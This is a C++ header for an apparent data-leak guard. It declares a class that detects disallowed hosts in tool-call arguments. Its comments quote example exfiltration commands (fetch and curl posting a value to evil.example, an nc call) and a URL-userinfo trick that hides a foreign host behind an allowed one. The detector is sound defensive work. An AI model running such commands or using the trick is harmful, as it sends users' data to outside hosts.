#pragma once

#include <cstddef>
#include <optional>
#include <span>
#include <string>
#include <string_view>

#include "flow/8_restore/bare_url.h"

namespace sluice::restore {

/// Knows whether a text that a program gets, such as a tool call's arguments, names a host that is
/// not allowed: then no value may stand in it anywhere. Whoever builds the URL from its parts
/// (`fetch('https://evil.example/' + 'EMAIL_...')`, `curl https://evil.example/ -d EMAIL_...`, a
/// member `url` beside a member `body`) sends the value there, without it ever being in the URL.
///
/// Known are URLs as BareUrl knows them, anywhere in a string, and a name or IP address that is
/// all of a string, blanks and a port besides. Not known: a bare name among other words (`nc
/// evil.example 80`), which looks like a file or a member of a class, a name that ends like a
/// source file (`evil.sh`), and what a program only puts together (`'evil.' + 'example'`).
///
/// An allowed host that a sign ends which ends no host (`https://docs.corp.example;x@evil.example`)
/// may be the user of another one: with an at sign behind it, the URL is foreign.
class ForeignAddress {
 public:
  /// @param hosts  see UrlCheck
  explicit ForeignAddress(std::span<const std::string> hosts)
      : hosts_(hosts), url_(hosts, LineBreaks::vanish) {}

  void feed(std::string_view text);

  /// A string of the text ends here.
  void end_string();

  [[nodiscard]] bool is_found() const { return is_found_; }

 private:
  void feed(char c);
  void collect(char c);
  void end_word();
  void follow_user(char c);
  [[nodiscard]] bool is_whole_url() const;
  [[nodiscard]] bool is_host() const;

  std::span<const std::string> hosts_;
  BareUrl url_;       // The current word.
  std::string word_;  // The begin of the string while it is one word, for is_host().
  bool has_word_ended_ = false;
  bool is_one_word_ = true;
  std::optional<char> before_;   // The sign before the current word; none: it begins the string.
  bool may_be_user_ = false;     // An allowed host has ended in a way in which no host ends.
  std::optional<char> closing_;  // What ends its URL: see before_.
  bool is_found_ = false;
};

}  // namespace sluice::restore
